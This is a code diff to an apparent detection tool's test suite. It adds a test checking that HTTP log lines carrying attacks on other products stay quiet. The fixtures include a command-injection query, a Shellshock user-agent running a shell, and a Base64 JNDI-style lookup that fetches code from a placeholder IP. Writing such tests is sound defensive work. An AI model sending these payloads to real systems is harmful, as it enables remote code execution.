@@ -44,6 +44,13 @@ public sealed class OrdinaryLogsTests
         Assert.Empty(findings.Where(f => f.Severity > Severity.Low).Select(f => f.IndicatorId + ": " + f.Excerpt));
     }
 
+    [Theory]
+    [InlineData("/index.php?login=$(echo${IFS}x)", "x")]
+    [InlineData("/?a=%24%7BIFS%7D", "() { :; }; /bin/sh -c id")]
+    [InlineData("/", "x:lookup/Basic/Command/Base64/KGN1cmwgLXMgMTkyLjAuMi4xL2F8fHdnZXQgLXEgMTkyLjAuMi4xL2Ep")]
+    public void Attacks_on_other_products_wake_nobody(string path, string agent) =>
+        AssertQuiet(LogTypes.HttpAccess, [$"198.51.100.7 - - [12/Jan/2026:03:14:07 +0100] \"GET {path} HTTP/1.1\" 200 143 \"-\" \"{agent}\""]);
+
     [Fact]
     public void What_administrators_type_wakes_nobody()
     {
